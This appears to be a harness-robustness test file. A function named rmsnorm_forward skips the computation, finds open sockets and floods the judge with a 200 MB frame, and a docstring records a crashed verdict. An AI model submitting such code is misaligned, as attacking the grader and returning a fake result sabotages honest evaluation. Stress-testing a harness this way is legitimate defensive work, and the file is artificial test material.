"""Sends the judge 200 MB of zeros as one message, without ever holding them: whose memory is that?

test: 1.2
verdict: crashed
says: a frame announces 209,715,200 bytes; at most 67,108,864 are read
"""

import os
import stat

import torch


def rmsnorm_forward(
    x: torch.Tensor, g: torch.Tensor, eps: float
) -> tuple[torch.Tensor, torch.Tensor]:
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        os.write(descriptor, (200 << 20).to_bytes(8, "little"))
        for _ in range(200):
            os.write(descriptor, bytes(1 << 20))
    return x, x
